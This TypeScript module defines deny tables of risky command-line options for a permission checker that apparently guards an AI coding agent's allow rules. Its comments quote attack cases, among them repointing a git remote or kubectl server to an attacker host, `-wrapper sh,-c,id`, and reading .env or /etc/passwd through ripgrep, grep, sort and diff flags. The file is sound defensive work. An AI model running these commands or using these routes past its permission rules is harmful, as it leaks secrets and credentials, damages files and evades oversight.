// The tables riskyArguments.ts reads: per program, the options that write files, read configuration or run another program.
/**
 * What an argument may not do unasked under a rule that allows further arguments (`npm
 * test ...`): the options of a known program that write files, read configuration or run
 * another program, each with what it does in the user's words.
 */
export interface ProgramRisks {
  /**
   * Long option names, compared without case, `-` or `_` (`--scriptShell` is `--script-shell`),
   * and any abbreviation of them (npm, git and Python's argparse take `--pref` for `--prefix`,
   * so `output-file` covers `--output` too); a name ending in `*` stands for every option
   * starting with it. None when absent.
   */
  long?: readonly string[];
  /** Short option letters, found anywhere in a cluster (`-xo file`) or an attached value (`-ofile`). */
  short: string;
  /** Options start with one dash and are never abbreviated (Go's `-toolexec`): every table is then read that way for the command. */
  singleDash?: true;
  /** A word with `=` that is no option sets a variable the program runs (make's `SHELL=…`, `CC=…`). */
  assignments?: true;
  /** A word starting with `@` names a file of more arguments, which the rule cannot see (`tsc @args.txt`, `gcc @opts`). */
  responseFiles?: true;
  /** Any argument, option or not, holding this does it too (git's `%G…` placeholders of a format run gpg; `git notes edit` opens an editor). */
  values?: RegExp;
  /** What such an argument does, in the user's words. */
  why: string;
}

const writes = 'writes files, reads configuration or runs another program';

// Options every program is checked for: the common names of writing to a file, reading configuration and running code.
const everyProgram: ProgramRisks = {
  long: [
    'output-file', 'outfile', 'config-file', 'exec', 'shell', 'pager', 'editor', 'require', 'import', 'loader', 'experimental-loader', 'node-options', 'eval',
    'plugin', 'preload', 'rcfile', 'inspect*',
    // Node's test runner loads a reporter module (`npm test ... -- --test-reporter=data:…` ran code), an env file sets NODE_OPTIONS,
    // and a list of file names read from a file names any file (`sort --files0-from=list` printed /etc/passwd): an outside attack.
    'test-reporter', 'test-reporter-destination', 'env-file', 'env-file-if-exists', 'files0-from', 'files-from',
    // More of Node's, given after `npm test --` to a `node --test` script: an OpenSSL configuration loads a native module (an outside attack ran
    // one), a configuration file or a startup snapshot sets options or code, and the rest write files where they say.
    'openssl-config', 'experimental-config-file', 'experimental-default-config-file', 'snapshot-blob', 'redirect-warnings', 'report-directory',
    'report-dir', 'report-filename', 'diagnostic-dir', 'tls-keylog',
    // Node's profilers write where they are told (`npm test -- --cpu-prof --cpu-prof-name=README.md` overwrote it: an outside attack).
    'cpu-prof*', 'heap-prof*', 'heapsnapshot*',
    // And so do its trace events and V8's logs, given to node directly (`npm test -- --trace-events-enabled
    // --trace-event-file-pattern=README.md` and `--prof --logfile=README.md` overwrote it: an outside attack); `--perf-*-prof`
    // writes a map outside the workspace, `--trace-turbo*` and `--redirect-code-traces-to` files of their own.
    'trace-event*', 'prof', 'logfile', 'log-all', 'log-code*', 'log-source-code', 'log-function-events',
    'log-internal-timer-events', 'log-ic', 'log-maps*', 'log-deopt', 'perf-basic-prof*', 'perf-prof*', 'trace-turbo*', 'redirect-code-traces*',
    // A single executable's blob is written where its configuration says.
    'experimental-sea-config',
    // What linters and formatters name their rewriting of the sources (`ruff check --fix`, `biome check --write`, `isort
    // --overwrite-in-place`, `rubocop --autocorrect-all`), a plugin they load (`pylint --load-plugins`), and where a checker
    // writes its reports or cache (`mypy --junit-xml README.md`): each ran unasked under a rule ending in `...` (an outside attack).
    // (`--fix` is an abbreviation of `--fix-layout`, as `--auto-correct` is `--autocorrect` without its dash: one entry each.)
    'unsafe-fixes', 'write', 'in-place', 'overwrite*', 'autocorrect*', 'fix-layout', 'load-plugins', 'junit-xml', 'cache-dir',
  ],
  short: 'o',
  why: writes,
};

// Options of test runners and of the scripts a package manager runs (what follows `npm test --` reaches the test runner, `npm run lint --` a
// linter): mocha's `-n` passes a Node option (`require=…`), `-R`/`-O` pick a reporter and its output file; a linter's or formatter's `--fix`/`--write`
// changes files.
const testRunners: ProgramRisks = {
  long: [
    'setup-files-after-env', 'global-setup', 'global-teardown', 'test-runner', 'runner', 'transform', 'reporters', 'reporter-option*', 'ui', 'resolver',
    'test-environment', 'environment', 'update-snapshot', 'coverage-directory', 'snapshot-resolver', 'watch-plugins', 'file', 'root-dir', 'dir',
    'test-results-processor', 'test-sequencer', 'preset', 'filter', 'cache-directory', 'module-name-mapper', 'package', 'fix', 'write',
    // vitest's `--api` serves its UI's API, through which anything on the machine can change and run files (an outside attack).
    'api',
    // mocha passes `--v8-<flag>` to V8 (`--v8-logfile=README.md` wrote it: an outside attack).
    'v8-*',
  ],
  short: 'cnORru',
  why: 'loads code, reads configuration or writes files',
};

// Linters, also reached through a package script (`npm run lint -- --init`): a fix or a suppressions file changes files, `--init` installs
// packages and writes a configuration, `--mcp` starts a server, a formatter, parser or rules folder loads code.
const linters: ProgramRisks = {
  long: ['fix', 'rulesdir', 'resolve-plugins-relative-to', 'cache-location', 'format', 'parser', 'init', 'suppress*', 'prune-suppressions', 'mcp'],
  short: 'cf',
  why: 'changes files or loads code',
};

const packageManagers: ProgramRisks = {
  long: [
    'prefix', 'script-shell', 'call', 'userconfig', 'globalconfig', 'workspaces', 'location', 'cwd', 'filter', 'recursive', 'registry',
    'node-gyp', 'use-yarnrc', 'modules-folder', 'cache-folder', 'global-folder', 'include-workspace-root', 'logs-dir', 'ws', 'config*',
  ],
  short: 'cCFgrw',
  why: 'runs another package\'s script, another program or reads other configuration',
};

const interpreterRisks: ProgramRisks = {
  long: ['print', 'command', 'include', 'allow*'],
  short: 'ceImprx',
  why: 'runs other code',
};

// Where `-u` names the program run on the other side, and the options that put another repository's hooks in place.
const gitRemote: ProgramRisks = { long: ['template', 'separate-git-dir'], short: 'u', why: 'runs another program or installs hooks from elsewhere' };

// The short options of git's subcommands that run another program: a merge strategy (`-s`, a `git-merge-<name>` on PATH), an editor
// (`-e`, `-i`, `tag -a`) or gpg (`-S`, `tag -s`/`-u`/`-v`); the repository's own configuration can name the editor and gpg
// (`core.editor`, `gpg.program`). Most long ones are git's (`--gpg-sign`, `--interactive`, `--edit`…); `--verify-signatures` is the
// merge's only, as `rev-parse --verify` (which it would abbreviate) runs nothing.
const gitRuns = 'runs another program: a merge strategy, an editor or gpg, which the repository\'s configuration can name';
const gitMerging: ProgramRisks = { long: ['verify-signatures'], short: 'eSs', why: gitRuns };
const gitCommitting: ProgramRisks = { short: 'eS', why: gitRuns };

const runsAnother = 'runs another program';

// An object's id as git takes it, whole or abbreviated (`3f2a9c1`), maybe peeled (`3f2a9c1^{}`): a blob's as well as a commit's.
const objectId = /^[0-9a-f]{4,64}(?:\^\{[a-z]*\})?$/i;
const printsStored =
  'may print a file git stores without naming it, so the lines of files tools keep from the model (a committed .env) could not be left out';
// Every argument asks (the command alone prints nothing of use).
// Stryker disable next-line StringLiteral: no letter matters where every argument already matches `values`.
const everyArgument: ProgramRisks = { short: '', values: /(?:)/, why: printsStored };

// C compilers: a plugin or another program to run, more arguments from a file, where the output goes.
const compilers: ProgramRisks = {
  long: ['fplugin*', 'wrapper', 'specs', 'b', 'print-prog-name'],
  short: 'BoL',
  // gcc and clang spell these with one dash too (`-wrapper sh,-c,id`, `-specs=x`, `-fplugin=./p.so`), which the letters miss.
  values: /^-(fplugin|wrapper|specs|print-prog-name)/,
  responseFiles: true,
  why: 'runs another program, reads more arguments from a file or writes files',
};

const gradle: ProgramRisks = {
  // `--write-locks`, `--update-locks` and `--write-verification-metadata` rewrite the build's lock and verification files.
  long: [
    'init-script', 'project-dir', 'settings-file', 'build-file', 'gradle-user-home', 'include-build', 'project-cache-dir', 'write-locks', 'update-locks',
    'write-verification-metadata',
  ],
  short: 'bcDgIp',
  why: 'runs another build script, reads other configuration or rewrites its lock files',
};

const maven: ProgramRisks = {
  long: ['file', 'settings', 'global-settings', 'toolchains', 'define', 'log-file'],
  short: 'Dfls',
  why: 'runs another build, reads other configuration or writes its log elsewhere',
};

const make: ProgramRisks = {
  long: ['file', 'makefile', 'directory', 'eval', 'include-dir', 'touch'],
  short: 'CEfIt',
  assignments: true,
  why: 'reads another makefile or changes the commands it runs',
};

// Per program (its name as `programName` gives it), and per program and subcommand (`git clone`).
// A program's options that do different things are given as a list, each with its own words.
const byProgram: Readonly<Record<string, ProgramRisks | readonly ProgramRisks[]>> = {
  git: [{
    long: [
      'output-directory', 'upload-pack', 'receive-pack', 'ext-diff', 'textconv', 'open-files-in-pager', 'exec-path', 'git-dir', 'work-tree',
      'config-env', 'extcmd', 'tool', 'remote', 'sequence-editor', 'gpg-program', 'strategy', 'upstream', 'no-index', 'unsafe-paths',
      // An editor or gpg (an outside attack): `branch --edit-description`, `commit --edit`, `rebase --edit-todo`, `rebase --interactive`,
      // `commit --gpg-sign`, `tag --sign`, `push --signed`, `log --show-signature`.
      'edit*', 'interactive', 'gpg-sign', 'sign', 'signed', 'show-signature',
    ],
    short: 'cOx',
    // A format's signature placeholders (`--format=%G?`, `--pretty=format:%GS`) run gpg; the `ext::` transport runs a command.
    values: /%G|^ext::/,
    // `--no-index` (git diff, git grep) reads any path given, outside the repository too: ~/.ssh/id_rsa.
    why: 'writes files, changes or reads git\'s configuration, reads files outside the repository, or runs another program',
  },
  // Other prefixes hide which file a patch's part is for (`--src-prefix=q` prints `qcredentials.json`), so a committed .env's
  // lines could not be taken out of what reaches the model (`withoutKeptFileLines`).
  {
    long: ['src-prefix', 'dst-prefix', 'line-prefix'],
    short: '',
    why: 'hides which file each change is in, so the changes of files tools keep from the model (.env) could not be left out',
  }],
  'git clone': gitRemote,
  'git fetch': gitRemote,
  'git ls-remote': gitRemote,
  'git init': gitRemote,
  'git merge': gitMerging,
  // `--rebase=interactive` (`--reb=i`) opens an editor too.
  'git pull': { ...gitMerging, values: /^--r[a-z]*=i/ },
  'git rebase': { short: 'iSs', why: gitRuns },
  'git commit': gitCommitting,
  'git cherry-pick': gitCommitting,
  'git revert': gitCommitting,
  'git am': { short: 'iS', why: gitRuns },
  'git commit-tree': { short: 'S', why: gitRuns },
  // Deleting or moving a tag changes the repository (an outside attack: `git tag -d v1.0.0`, `git tag -f v1.0.0 HEAD~5`).
  'git tag': { long: ['verify', 'delete', 'force'], short: 'aesuvdf', why: 'runs another program (an editor or gpg) or changes the repository' },
  // `expire` and `delete` drop the reflog's entries, the way back to lost commits; a second ref (always `refs/…`) or `-d` moves
  // or deletes what HEAD points to; `--lost-found` writes under .git (each ran unasked: an outside attack).
  'git reflog': { short: '', values: /^(?:expire|delete)$/, why: "deletes the reflog's entries, the way back to lost commits" },
  'git symbolic-ref': { long: ['delete'], short: 'd', values: /^refs\//, why: 'changes what the reference points to' },
  'git fsck': { long: ['lost-found'], short: '', why: 'writes files under .git' },
  // Adding or changing a remote writes .git/config (an outside attack: `git remote set-url origin https://attacker…`).
  'git remote': { short: '', values: /^(?:add|rename|remove|rm|set-head|set-branches|set-url|prune|update)$/, why: "changes the repository's configuration" },
  // `--apply` undoes `--check` and `--stat`: the patch is applied (an outside attack wrote a file through `git apply --check ...`).
  'git apply': { long: ['apply'], short: '', why: 'applies the patch, writing files' },
  // Deleting, renaming or moving a branch, tag or stash entry changes the repository's own files under .git (an outside attack: `-D`).
  'git branch': { long: ['delete', 'move', 'copy', 'force', 'set-upstream-to', 'unset-upstream', 'edit-description'], short: 'cCdDfmMtu', why: 'changes the repository' },
  // Each without a message opens an editor; the others change the repository's notes.
  'git notes': { short: '', values: /^(?:add|append|edit|copy|merge|remove|prune)$/, why: 'runs an editor or changes the repository' },
  // What git prints of a file it stores, named by the object's id, says no file's name (`git show <blob id>`, `git cat-file -p`, a
  // `--batch`), nor does what compares two patches (`git range-diff`), and an archive or an export holds every file (`git archive`,
  // `git fast-export`), so the lines of a file tools keep from the model (a committed .env) could not be left out of what it prints
  // (`withoutKeptFileLines`), nor does a merge's result printed whole (`git merge-tree <base> <ours> <theirs>` names a file on a
  // line of its own, then prints its lines); `git unpack-file` writes one into the workspace. An id alone does not say whether it is a commit's, so
  // `git show <commit id>` asks too (`git show HEAD`, `main` or `v1.0` do not).
  'git show': { short: '', values: objectId, why: printsStored },
  // `--batch` and `--batch=<format>` are abbreviations of `--batch-command` (which prints contents too); `--batch-check` is neither.
  'git cat-file': { long: ['batch-command', 'filters'], short: 'p', values: /^blob$/, why: printsStored },
  'git range-diff': everyArgument,
  'git merge-tree': everyArgument,
  'git archive': everyArgument,
  'git fast-export': everyArgument,
  'git unpack-file': { ...everyArgument, why: 'writes a file git stores into the workspace' },
  npm: packageManagers,
  yarn: packageManagers,
  pnpm: packageManagers,
  bun: packageManagers,
  jest: testRunners,
  vitest: testRunners,
  mocha: testRunners,
  // `--hostname-bin` names a program ripgrep runs to learn the host name for its hyperlinks. Hidden and ignored files (`-u`,
  // `--hidden`, `-.`, also in a cluster: `-n.`, `--no-ignore`) hold what tools keep from the model: `rg -uu ''` under `rg ...`
  // printed .env to it. `-z` runs decompression programs, and `-L` follows the workspace's links out of it (an outside attack).
  rg: [
    {
      long: ['pre-glob', 'hostname-bin', 'hidden', 'no-ignore*', 'unrestricted'],
      short: 'u',
      values: /^-\w*\./,
      why: 'runs another program on each file or for its links, or reads hidden and ignored files (.env) that tools keep from the model',
    },
    { long: ['search-zip', 'follow'], short: 'zL', why: 'runs decompression programs, or follows links out of the workspace' },
    // Each line names its file, which takes the lines of a kept file (credentials.json) out of its output (`withoutKeptFileLines`),
    // unless the names are left out or written with other separators.
    {
      long: ['no-filename', 'path-separator', 'field-match-separator', 'field-context-separator'],
      short: 'I',
      why: 'hides which file each line comes from, so the lines of files tools keep from the model (credentials.json) could not be left out',
    },
  ],
  // What recurses reads every file of a folder, the ones tools keep from the model too (`grep -r '' .` printed .env to it), and
  // `-R` follows the folder's links out of the workspace.
  grep: {
    long: ['pre-glob', 'recursive', 'dereference-recursive', 'directories'],
    short: 'rRd',
    why: 'runs another program on each file, or reads every file of a folder, the ones tools keep from the model (.env) too',
  },
  // Untracked files are where a .env or a key usually is: git grep reads only tracked ones unless told.
  'git grep': [
    { long: ['untracked', 'no-exclude-standard'], short: '', why: 'reads untracked files, where secrets tools keep from the model (.env) usually are' },
    // A stored file searched by its id prints its lines after the id, with no file's name (`git grep -e API <blob id>`).
    { short: '', values: objectId, why: printsStored },
    {
      short: 'h',
      why: 'hides which file each line comes from, so the lines of files tools keep from the model (a committed .env) could not be left out',
    },
  ],
  // sort compresses its temporary files with the program named (`sort -S 1K --compress-program=sh data.txt` ran each line of data.txt).
  sort: { long: ['compress-program'], short: '', why: runsAnother },
  sdiff: { long: ['diff-program'], short: '', why: runsAnother },
  // diff3 (named `diff`, without its number) runs the program named to compare. Given folders, `-r` reads every file in them and
  // `-N`/`-P` print whole each file only one of them has (`diff -N empty .` printed .env: an outside attack).
  diff: [
    { long: ['diff-program'], short: '', why: runsAnother },
    {
      long: ['recursive', 'new-file', 'unidirectional-new-file'],
      short: 'rNP',
      why: 'prints every file of a folder, the ones tools keep from the model (.env) too',
    },
  ],
  // A word starting with `+` is a command less runs at start, and `+!cmd` runs a shell command.
  // `-o`/`-O` (`--log-file`) copy the file shown to the file named, and a lesskey file sets the commands and environment less runs.
  less: [
    { short: '', values: /^\+/, why: runsAnother },
    { long: ['log-file', 'lesskey*'], short: 'oOk', why: 'writes files or reads other configuration' },
  ],
  // pip's `--python` runs pip again under the interpreter named; `--log` writes where it says.
  pip: { long: ['python', 'log*'], short: '', why: 'runs another program or writes files' },
  // `-H`/`--html` opens a browser (the one named, or $BROWSER); `-C` reads another configuration file, `-P` names the pager.
  man: { long: ['html'], short: 'CHP', why: 'runs another program or reads other configuration' },
  // A kubeconfig can name a program to run for credentials (`users[].user.exec`); another server, context or user sends the
  // kubeconfig's credentials elsewhere (an outside attack: `kubectl get pods --server=https://attacker…`).
  kubectl: {
    long: [
      'kubeconfig', 'server', 'context', 'cluster', 'user', 'token', 'as', 'as-group', 'as-uid', 'certificate-authority', 'client-*', 'insecure-skip-tls-verify',
    ],
    short: 's',
    why: 'reads another configuration, which can run a program, or sends its credentials to another server',
  },
  gh: { long: ['web'], short: 'w', why: 'opens a browser' },
  make,
  gmake: make,
  // `-f` another build file, `-C` another folder, `-t` a tool (`-t clean` deletes outputs): an outside attack ran another file's commands.
  ninja: { short: 'Cft', why: 'reads another build file or runs one of its tools' },
  // `-C` compiles a magic file, writing it beside the one named (an outside attack wrote `mymagic.mgc`); `-f` reads the names of
  // the files to look at from a file, as `--files-from` does.
  file: [
    { short: 'C', why: 'writes files' },
    { short: 'f', why: 'reads the names of the files to look at from a file' },
  ],
  // `--logfile` is the test harness's, after `--`.
  cargo: {
    // `cargo clippy --fix` rewrites the sources (an outside attack).
    long: ['manifest-path', 'target-dir', 'out-dir', 'artifact-dir', 'lockfile-path', 'logfile', 'fix', 'allow-dirty', 'allow-no-vcs', 'allow-staged'],
    short: 'Z',
    why: 'builds another package, changes the sources or writes files elsewhere',
  },
  // The test binary's own options are also given as `-test.<name>` (compared without that prefix); `-ldflags` can name the linker run (`-extld`), and
  // `-gcflags`, `-asmflags` and `-gccgoflags` pass the compiler and assembler options that write files (`-gcflags=-cpuprofile=x`).
  go: {
    long: ['c', 'toolexec', 'vettool', 'modfile', 'overlay', 'coverprofile', 'cpuprofile', 'memprofile', 'blockprofile', 'mutexprofile', 'trace', 'outputdir',
      'pkgdir', 'ldflags', 'gcflags', 'asmflags', 'gccgoflags', 'gocoverdir', 'testlogfile', 'fuzzcachedir'],
    // `go env -w`/`-u` writes the user's go configuration (`GOFLAGS=-toolexec=…`: every later go command runs it), `go get -u` go.mod.
    short: 'wu',
    // `-mod=mod` lets the command rewrite go.mod and go.sum (`-mod=readonly` and `-mod=vendor` do not).
    values: /^--?mod(?:=mod)?$/,
    singleDash: true,
    why: 'writes files or runs another program',
  },
  // mypy writes each report where it is told (`--html-report src`), its cache too, and runs the Python named; `--install-types`
  // installs packages with pip (an outside attack).
  mypy: {
    long: [
      'html-report', 'linecount-report', 'lineprecision-report', 'any-exprs-report', 'cobertura-xml-report', 'xml-report', 'txt-report', 'xslt-*', 'python-executable',
      'install-types',
    ],
    short: '',
    why: 'writes files or runs another program',
  },
  // Formatters whose `-w` (gofmt, shfmt) or `-i` (clang-format) writes the file in place, and rubocop's `-a`/`-A`/`-x` correct it.
  gofmt: { short: 'w', why: 'changes files' },
  shfmt: { short: 'w', why: 'changes files' },
  'clang-format': { short: 'i', why: 'changes files' },
  rubocop: { short: 'aAx', why: 'changes files' },
  // Options of one dash: `-write=true` writes the files `fmt -check` only checks, `-chdir` works in another folder, `-out`/`-state-out` write.
  terraform: { long: ['write', 'chdir', 'out', 'state-out', 'backup', 'plugin-dir'], short: '', singleDash: true, why: 'writes files or works elsewhere' },
  pytest: {
    long: [
      'override-ini', 'rootdir', 'confcutdir', 'basetemp', 'junit-xml', 'debug', 'pastebin', 'result-log', 'log-file', 'cov-report', 'pdbcls', 'html',
      'report-log', 'json-report-file',
      // pytest-benchmark's results, saved runs and histograms go where they say (`--benchmark-json=README.md` overwrote it: an outside attack).
      'benchmark-json', 'benchmark-save*', 'benchmark-autosave', 'benchmark-storage', 'benchmark-histogram', 'benchmark-cprofile-dump',
    ],
    short: 'cop',
    why: 'loads a plugin, reads other configuration or writes files',
  },
  eslint: linters,
  // More linters and checkers whose options run code, install packages or write files, each found running unasked under a rule
  // ending in `...` (an outside attack): pylint's `--init-hook` is Python, markdownlint's rules (`-r`) and configuration (`-c`,
  // a .js file) load code, as do stylelint's formatter and syntax; ruff's `--add-noqa` and yq's `-i` rewrite files.
  pylint: { long: ['init-hook'], short: '', why: 'runs other code' },
  markdownlint: { long: ['rules'], short: 'cr', why: 'loads code or reads other configuration' },
  stylelint: { long: ['custom-formatter', 'custom-syntax', 'config-basedir'], short: '', why: 'loads code or reads other configuration' },
  ruff: { long: ['add-noqa'], short: '', why: 'changes files' },
  // A yq expression reads any file (`load("/etc/passwd")`), and `-s` writes one file per document; a jq module or data file is
  // searched where the program says (`import "creds" as $c {search: "~/.config"}` printed a file outside: an outside attack).
  yq: [
    { short: 'i', why: 'changes files' },
    { long: ['split-exp'], short: 's', values: /\bload\w*\s*\(/, why: 'writes files, or reads files anywhere' },
  ],
  jq: [
    { short: '', values: /\b(?:import|include)\s*"|\bmodulemeta\b/, why: 'reads modules and data files anywhere' },
    // A program read from a file (`-f report.jq`, which can import credentials.json) or modules from a folder: what runs is not in the command.
    { long: ['from-file', 'library-path'], short: 'fL', why: 'runs a program from a file, which can read modules and data files anywhere' },
  ],
  // `-R` runs tree again in each folder, writing a `00Tree.html` there.
  tree: { short: 'R', why: 'writes files' },
  // phpunit's bootstrap is PHP run first, `-d` sets PHP's settings (`auto_prepend_file`), and its logs and reports go where they say.
  phpunit: {
    long: [
      'bootstrap', 'configuration', 'include-path', 'extension', 'log-*', 'coverage-*', 'testdox-*', 'generate-*', 'migrate-configuration', 'cache-directory',
    ],
    short: 'cd',
    why: 'runs other code, reads other configuration or writes files',
  },
  // ctest runs a CMake script (`-S`) or builds and runs another project (`--build-and-test`), and writes its log where `-O` says.
  ctest: {
    long: ['script', 'build-and-test', 'test-command', 'build-options', 'output-log', 'output-junit', 'resource-spec-file'],
    short: 'SO',
    why: 'runs other code or writes files',
  },
  // cmake builds the target named (`--build build --target install` installs), runs a script (`-P`), a command (`-E rm …`)
  // or an initial cache's code (`-C`).
  cmake: { long: ['target', 'install', 'prefix', 'component'], short: 'tPEC', why: 'builds another target, runs other code or installs' },
  // `-X…` passes options to the compiler, linker and C compiler swift runs (`-Xswiftc -load-plugin-executable …`).
  swift: {
    long: ['scratch-path', 'build-path', 'package-path', 'toolset', 'pkg-config-path'],
    short: '',
    values: /^-X/,
    why: 'runs other code or builds elsewhere',
  },
  // Goldens rewritten in place, a report written where it says (`--coverage-path` is left out: `--coverage` would read as its abbreviation).
  flutter: { long: ['update-goldens', 'file-reporter'], short: '', why: 'changes or writes files' },
  // `npm audit fix` changes the package files and installs what it picked.
  'npm audit': { short: '', values: /^fix$/, why: 'changes the package files and installs packages' },
  // Another Docker daemon (`-H tcp://…`) or context: the command and what it shows go elsewhere.
  docker: { long: ['host', 'context'], short: 'H', why: 'talks to another Docker daemon' },
  // A method or fields make `gh api` change things on GitHub (`-X DELETE`, `-f`), a file named is read as the request's body.
  'gh api': { long: ['method', 'field', 'raw-field', 'input'], short: 'XfF', why: 'changes things on GitHub or reads a file' },
  rspec: { long: ['require', 'options', 'default-path', 'out'], short: 'rIo', why: 'loads code, reads other configuration or writes files' },
  // rake's `-e`/`-p`/`-E` run Ruby code given on the command line.
  rake: { long: ['require', 'libdir', 'rakefile', 'rakelib', 'execute*'], short: 'rIfRepE', why: 'runs other code or another rakefile' },
  prettier: { long: ['write', 'plugin-search-dir', 'ignore-path', 'cache-location'], short: 'cw', why: 'changes files or loads code' },
  tsc: {
    long: ['outdir', 'declaration-dir', 'ts-build-info-file', 'generate-trace', 'generate-cpu-profile', 'init', 'build', 'project', 'plugins'],
    short: 'bp',
    responseFiles: true,
    why: 'writes files or reads other configuration (or more arguments from a file)',
  },
  // `-J` passes an option to the JVM javac runs in (`-J-javaagent:agent.jar` runs that agent).
  javac: {
    long: ['processor-path', 'plugin', 'release'],
    short: 'Jd',
    responseFiles: true,
    why: 'runs other code, reads more arguments or writes files',
  },
  gcc: compilers,
  'g++': compilers,
  cc: compilers,
  clang: compilers,
  'clang++': compilers,
  gradle,
  gradlew: gradle,
  mvn: maven,
  mvnw: maven,
  dotnet: {
    long: ['settings', 'test-adapter-path', 'diag', 'results-directory', 'logger', 'collect'],
    short: 'ads',
    why: 'loads code, reads other configuration or writes files',
  },
  deno: {
    long: ['allow*', 'import-map', 'unsafely-ignore-certificate-errors'],
    short: 'Ac',
    why: 'grants more permissions or reads other configuration',
  },
};

/**
 * Every table of risky options: `every` program's, those of test runners (also after a package manager's `--`), linters,
 * package managers and interpreters, and the rest `byProgram` (its name as `programName` gives it, or with its
 * subcommand: `git clone`).
 */
// rake's and make's `--trace` prints what runs: not an abbreviation of Node's `--trace-event-file-pattern`.
const printsTrace = {
  long: ['trace'],
  // Stryker disable next-line StringLiteral: no letter of every program's table (`o`) is one these take as their own, whatever `short` holds.
  short: '',
};

/**
 * Options a program has of its own, by its name or its name and subcommand as `byProgram` is keyed (never another word of the
 * rule): `long`, whole option names, never taken for an abbreviation of a longer one in a table (git's parser and getopt take an
 * exact name first: `git diff --cached` asked as `--cache-dir`); `short`, letters of every program's table that this one has
 * writing nothing (grep's and ripgrep's `-o` print only what matched, `git ls-files -o` lists untracked files). Written as the
 * tables are, lower case with dashes; a program's own table entry of the same name still asks.
 */
const ownOptions: Readonly<Record<string, { long: readonly string[]; short: string }>> = {
  'git diff': { long: ['cached', 'text'], short: '' },
  'git log': { long: ['text'], short: '' },
  'git show': { long: ['text'], short: '' },
  'git grep': { long: ['cached', 'text'], short: 'o' },
  'git rm': { long: ['cached'], short: '' },
  'git ls-files': { long: ['cached'], short: 'o' },
  'git submodule': { long: ['cached'], short: '' },
  rg: { long: ['files'], short: 'o' },
  grep: { long: [], short: 'o' },
  cargo: { long: ['test', 'bench', 'example'], short: '' },
  pytest: { long: ['co'], short: '' },
  rake: printsTrace,
  make: printsTrace,
  gmake: printsTrace,
};

export const programRisks = {
  ownOptions,
  every: everyProgram,
  testRunners,
  linters,
  packageManagers,
  interpreter: interpreterRisks,
  byProgram,
} as const;
